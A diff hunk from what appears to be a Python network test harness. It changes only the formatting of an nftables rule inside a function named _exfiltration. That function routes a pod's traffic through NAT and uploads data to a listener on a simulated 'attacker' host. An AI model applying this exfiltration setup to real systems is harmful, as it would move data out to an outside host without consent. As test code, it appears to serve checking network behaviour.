@@ -83,7 +83,7 @@ def _exfiltration(edges: Edges) -> None:
     pod.run("ip", "address", "add", f"{source}/24", "dev", "eth0")
     pod.run("ip", "route", "add", f"{attacker.address4}/32", "via", node.address4, "src", source)
     rule = f"type nat hook postrouting priority srcnat; ip saddr {source} masquerade;"
-    node.nft(f"table ip pods {{ chain out {{ {rule} }} }}")
+    node.nft(f"table ip pods {{\n chain out {{\n {rule}\n }}\n}}\n")
     attacker.start(sys.executable, "-c", _SINK, attacker.address4, port)
     time.sleep(1)
     pod.run(sys.executable, "-c", _UPLOAD, attacker.address4, port, str(_BYTES), timeout_s=120)
